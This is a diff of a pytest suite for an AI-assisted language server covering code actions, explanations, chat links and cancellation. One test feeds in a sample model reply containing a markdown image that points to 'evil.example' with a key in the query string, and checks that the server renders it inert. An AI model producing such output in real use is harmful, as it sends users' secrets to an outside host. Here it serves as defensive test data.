@@ -3,9 +3,6 @@
 from __future__ import annotations
 
 import json
-import sys
-from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -13,113 +10,15 @@ import pytest
 
 from tests.acting import block
 from tests.chat_requests import call_of
-from tests.chat_server import chat_server, talks
-from tests.fault_server import FaultServer, reply, silence
-from tests.raw_client import RawClient, replace
-
-SERVER = [sys.executable, "-P", "-m", "lsp_server"]
-TEXT = "import os\n\n\ndef mean(values):\n    smile = '😀'; return sum(values) / len(values)\n\n\nprint(mean([]))\n"
-LINE = "    smile = '😀'; return sum(values) / len(values)"
-BETTER = TEXT.split("\n\n\n")[1].replace("len(values)", "max(len(values), 1)") + "\n"
-FINDING = {
-    "quote": "sum(values) / len(values)",
-    "severity": "warning",
-    "category": "bug",
-    "message": "Divides by zero.",
-    "replacement": "sum(values) / max(len(values), 1)",
-}
-FINDINGS = json.dumps({"findings": [FINDING, {**FINDING, "quote": "made up"}]})
-MODERN: dict[str, Any] = {
-    "textDocument": {"codeAction": {"resolveSupport": {"properties": ["edit"]}}},
-    "workspace": {"workspaceEdit": {"documentChanges": True, "changeAnnotationSupport": {}}, "applyEdit": True},
-    "window": {"workDoneProgress": True, "showDocument": {"support": True}},
-}
-PLAIN: dict[str, Any] = {"textDocument": {"codeAction": {}}, "workspace": {"applyEdit": True}}
-
-
-@pytest.fixture(autouse=True)
-def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    for variable in ("HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_RUNTIME_DIR"):
-        monkeypatch.setenv(variable, str(tmp_path / "home"))
-    for variable in ("HTTP_PROXY", "http_proxy", "all_proxy", "ALL_PROXY", "MISTRAL_API_KEY", "CODESTRAL_API_KEY"):
-        monkeypatch.delenv(variable, raising=False)
-    monkeypatch.setenv("INFILL_BACKEND", "openai")
-    return tmp_path / "home"
+from tests.chat_server import talks
+from tests.fault_server import reply, silence
+from tests.line_actor import BETTER, MODERN, PLAIN, TEXT, applied, editor, project_in
+from tests.raw_client import replace
 
 
 @pytest.fixture
-def project(tmp_path: Path) -> Path:
-    folder = tmp_path / "project"
-    folder.mkdir()
-    (folder / "mean.py").write_text(TEXT)
-    return folder
-
-
-class Actor(RawClient):
-    """An editor that answers what it is asked: `answers` by method, null for everything else."""
-
-    answers: dict[str, Any] = {}  # noqa: RUF012  replaced for each client
-    uri = ""
-
-    def answer_to(self, message: dict[str, Any]) -> Any:
-        return self.answers.get(message["method"])
-
-    def actions(
-        self, line: int = 4, character: int = 4, *, to: tuple[int, int] | None = None, **context: Any
-    ) -> list[dict[str, Any]]:
-        end = to or (line, character)
-        span = {"start": {"line": line, "character": character}, "end": {"line": end[0], "character": end[1]}}
-        params = {
-            "textDocument": {"uri": self.uri},
-            "range": span,
-            "context": {"diagnostics": [], "triggerKind": 1, **context},
-        }
-        found: list[dict[str, Any]] = self.request("textDocument/codeAction", params)["result"]
-        return found
-
-    def action(self, title: str, **context: Any) -> dict[str, Any]:
-        return next(each for each in self.actions(**context) if title in each["title"])
-
-    def run(self, command: dict[str, Any], **more: Any) -> dict[str, Any]:
-        params = {"command": command["command"], "arguments": command["arguments"], **more}
-        return self.request("workspace/executeCommand", params)
-
-    def asked_for(self, method: str) -> list[dict[str, Any]]:
-        return [message["params"] for message in self.asked if message["method"] == method]
-
-    def told(self, method: str) -> list[dict[str, Any]]:
-        return [message["params"] for message in self.notified if message["method"] == method]
-
-
-@contextmanager
-def editor(
-    project: Path, monkeypatch: pytest.MonkeyPatch, *scripts: Any, capabilities: dict[str, Any] = MODERN, **answers: Any
-) -> Iterator[tuple[Actor, FaultServer]]:
-    with chat_server(*scripts) as server:
-        monkeypatch.setenv("INFILL_BASE_URL", server.url)
-        folders = [{"uri": project.as_uri(), "name": "project"}]
-        with Actor(SERVER, capabilities=capabilities, workspaceFolders=folders) as client:
-            client.answers = {name.replace("_", "/"): value for name, value in answers.items()}
-            client.uri = (project / "mean.py").as_uri()
-            client.open(TEXT, client.uri)
-            yield client, server
-        assert (project / "mean.py").read_text() == TEXT, "the server writes into no project"
-        assert sorted(path.name for path in project.iterdir()) == ["mean.py"]
-
-
-def applied(text: str, edits: list[dict[str, Any]]) -> str:
-    """With columns in UTF-16 units, as an editor does it."""
-    lines = text.encode("utf-16-le").split("\n".encode("utf-16-le"))
-
-    def at(place: dict[str, int]) -> int:
-        return sum(len(line) + 2 for line in lines[: place["line"]]) + 2 * place["character"]
-
-    data = text.encode("utf-16-le")
-    for edit in sorted(edits, key=lambda edit: -edit["range"]["start"]["line"]):
-        data = (
-            data[: at(edit["range"]["start"])] + edit["newText"].encode("utf-16-le") + data[at(edit["range"]["end"]) :]
-        )
-    return data.decode("utf-16-le")
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    return project_in(tmp_path, monkeypatch)
 
 
 def test_an_edit_is_worked_out_when_chosen_and_wants_to_be_confirmed(
@@ -174,50 +73,15 @@ def test_an_edit_of_a_text_that_has_changed_is_not_made(project: Path, monkeypat
         assert "edit" not in whole and "changed meanwhile" in whole["disabled"]["reason"]
 
 
-def test_findings_are_diagnostics_with_a_fix_and_go_with_their_line(
-    project: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    with editor(project, monkeypatch, FINDINGS) as (client, _):
-        result = client.run(client.action("Review the file")["command"])["result"]
-        assert result == {"findings": 1, "dropped": 1, "malformed": 0, "unread": 0}
-        [shown] = client.told("textDocument/publishDiagnostics")
-        [row] = shown["diagnostics"]
-        assert (row["source"], row["severity"], row["message"]) == ("infill review", 2, "Divides by zero.")
-        width = len(LINE.encode("utf-16-le")) // 2
-        assert row["range"] == {"start": {"line": 4, "character": 4}, "end": {"line": 4, "character": width}}
-        fix = client.action("Fix: Divides by zero.", triggerKind=2)
-        whole = client.request("codeAction/resolve", fix)["result"]
-        assert applied(TEXT, whole["edit"]["documentChanges"][0]["edits"]) == TEXT.replace(
-            "len(values)", "max(len(values), 1)"
-        )
-        client.change(replace((0, 0), (0, 0), "# above\n"), uri=client.uri)
-        client.change(replace((5, 9), (5, 9), "x"), uri=client.uri, version=3)
-        assert client.actions(5, 4, triggerKind=2) == []
-        _, moved, gone = client.told("textDocument/publishDiagnostics")
-        assert moved["diagnostics"][0]["range"]["start"]["line"] == 5 and gone["diagnostics"] == []
-
-
-def test_a_review_is_cleared_by_command_and_with_its_document(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    with editor(project, monkeypatch, FINDINGS) as (client, _):
-        for clear in (
-            lambda: client.run(client.action("Clear the review")["command"]),
-            lambda: client.notify("textDocument/didClose", {"textDocument": {"uri": client.uri}}),
-        ):
-            client.run(client.action("Review the file")["command"])
-            clear()
-            client.request("infill/status", None)
-            assert client.told("textDocument/publishDiagnostics")[-1]["diagnostics"] == []
-
-
 def test_an_explanation_opens_beside_and_renders_nothing_from_afar(
-    project: Path, monkeypatch: pytest.MonkeyPatch, home: Path
+    project: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
     with editor(project, monkeypatch, "It divides. ![x](https://evil.example/?KEY) <img src=x>") as (client, _):
         result = client.run(client.action("Explain")["command"])["result"]
         assert result == {"markdown": "It divides. [x] (`https://evil.example/?KEY`) &lt;img src=x>"}
         [shown] = client.asked_for("window/showDocument")
         page = Path(shown["uri"].removeprefix("file://"))
-        assert page.is_relative_to(home) and page.read_text() == result["markdown"]
+        assert page.is_relative_to(tmp_path / "home") and page.read_text() == result["markdown"]
         assert page.stat().st_mode & 0o777 == 0o600
 
 
@@ -238,6 +102,17 @@ def test_a_conversation_streams_and_goes_on(project: Path, monkeypatch: pytest.M
         assert [message["role"] for message in talks(server)[0]["messages"]] == ["system", "user", "assistant", "user"]
 
 
+def test_a_panel_gets_links_and_the_model_its_own_words(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    span = {"start": {"line": 4, "character": 4}, "end": {"line": 4, "character": 4}}
+    said = "See mean.py:5.\n```\nmean.py:5\n```\nAnd nothere.py:1."
+    with editor(project, monkeypatch, said) as (client, _):
+        params = {"textDocument": {"uri": client.uri}, "range": span, "links": True, "partialResultToken": 7}
+        linked = said.replace("See mean.py:5", f"See [mean.py:5]({client.uri}#L5)")
+        assert client.request("infill/chat", params)["result"] == {"markdown": said, "linked": linked}
+        pieces = [told["value"]["markdown"] for told in client.told("$/progress") if told["token"] == 7]
+        assert "".join(pieces) == linked
+
+
 def test_cancelling_the_progress_ends_the_request_at_once(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     with editor(project, monkeypatch, silence) as (client, server):
         command = client.action("Explain")["command"]
@@ -247,6 +122,7 @@ def test_cancelling_the_progress_ends_the_request_at_once(project: Path, monkeyp
             client.request("infill/status", None)
         client.notify("window/workDoneProgress/cancel", {"token": "t1"})
         assert client.reply(number)["result"] == {"declined": "It was cancelled."}
+        assert not client.told("window/showMessage"), "who cancels needs no message about it"
         kinds = [told["value"]["kind"] for told in client.told("$/progress") if told["token"] == "t1"]
         assert kinds == ["begin", "end"]
 
@@ -279,6 +155,9 @@ def test_a_wish_is_asked_for_where_the_editor_can_ask(project: Path, monkeypatch
         edit = client.asked_for("workspace/applyEdit")[0]["edit"]
         assert edit["changeAnnotations"]["infill"]["needsConfirmation"] is True
         assert all("as I say" not in action["title"] for action in client.actions(triggerKind=2))
+        client.answers["infill/input"] = None
+        assert client.run(client.action("as I say")["command"])["result"] == {"declined": "It was cancelled."}
+        assert not client.told("window/showMessage") and len(talks(server)) == 1
 
 
 def test_only_the_kinds_that_are_asked_for(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -337,6 +216,8 @@ def test_nothing_is_offered_where_nobody_can_talk(project: Path, monkeypatch: py
     monkeypatch.setenv("INFILL_BACKEND", "workspace")
     with editor(project, monkeypatch, "?") as (client, _):
         assert client.actions() == []
+        status = client.request("infill/status", None)["result"]
+        assert "cannot talk" in status["mute"] and "infill key set" in status["mute"]
         told = client.run(
             {
                 "command": "infill.explain",
